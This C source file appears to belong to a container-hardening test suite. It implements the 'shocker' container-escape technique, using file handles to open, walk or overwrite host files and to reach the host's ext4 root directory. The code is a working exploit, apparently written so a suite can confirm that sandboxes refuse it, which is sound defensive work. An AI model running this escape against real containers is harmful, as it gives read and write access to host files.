/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Opens a file of the host by its handle (the "shocker" attack): any file that was bound into the
 * container stands for its whole file system. "encode" runs on the host's side and prints the
 * handle; "root" guesses that of an ext4 root directory (inode 2) and walks from there.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>

#include "drill/attacks/attack.h"

union handle {
  struct file_handle head;
  char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
};

static int encode(const char* path) {
  union handle handle = {.head.handle_bytes = MAX_HANDLE_SZ};
  int mount_id;
  if (name_to_handle_at(AT_FDCWD, path, &handle.head, &mount_id, 0) < 0) return refused();
  printf("ok %d:", handle.head.handle_type);
  for (unsigned i = 0; i < handle.head.handle_bytes; i++) printf("%02x", handle.head.f_handle[i]);
  puts("");
  return 0;
}

static int decode(union handle* handle, const char* text) {
  char* hex;
  handle->head.handle_type = (int)strtol(text, &hex, 10);
  size_t size = *hex == ':' ? strlen(++hex) / 2 : 0;
  if (size == 0 || size > MAX_HANDLE_SZ) return -1;
  handle->head.handle_bytes = (unsigned)size;
  for (size_t i = 0; i < size; i++) {
    unsigned byte;
    if (sscanf(hex + 2 * i, "%2x", &byte) != 1) return -1;
    handle->head.f_handle[i] = (unsigned char)byte;
  }
  return 0;
}

int attack_file_handle(int argc, char** argv) {
  const char* act = argc > 1 ? argv[1] : "";
  union handle handle = {0};
  if (argc == 3 && strcmp(act, "encode") == 0) return encode(argv[2]);
  const int walks = argc == 5 && strcmp(act, "walk") == 0;
  const int overwrites = argc == 4 && strcmp(act, "overwrite") == 0;
  if (!walks && !overwrites &&
      (argc != 4 || (strcmp(act, "open") != 0 && strcmp(act, "root") != 0)))
    return usage(
        "file_handle encode PATH | open|overwrite ANCHOR HANDLE | walk ANCHOR HANDLE NAME |"
        " root ANCHOR PATH");
  int anchor = open(argv[2], O_RDONLY | O_CLOEXEC);
  if (anchor < 0) return refused();
  if (strcmp(act, "open") == 0) {
    if (decode(&handle, argv[3]) < 0) return usage("a handle is TYPE:HEX, as encode prints it");
    return finish_reading(open_by_handle_at(anchor, &handle.head, O_RDONLY));
  }
  if (walks || overwrites) {
    if (decode(&handle, argv[3]) < 0) return usage("a handle is TYPE:HEX, as encode prints it");
    int fd = open_by_handle_at(anchor, &handle.head, walks ? O_RDONLY | O_DIRECTORY : O_WRONLY);
    if (fd < 0) return refused();
    if (overwrites) return finish(write(fd, "changed", 7));
    return finish_reading(openat(fd, argv[4], O_RDONLY | O_CLOEXEC));
  }
  const uint32_t inode_and_generation[2] = {2, 0};
  handle.head.handle_bytes = sizeof(inode_and_generation);
  handle.head.handle_type = 1;
  memcpy(handle.head.f_handle, inode_and_generation, sizeof(inode_and_generation));
  int root = open_by_handle_at(anchor, &handle.head, O_RDONLY | O_DIRECTORY);
  if (root < 0) return refused();
  return finish_reading(openat(root, argv[3] + strspn(argv[3], "/"), O_RDONLY | O_CLOEXEC));
}
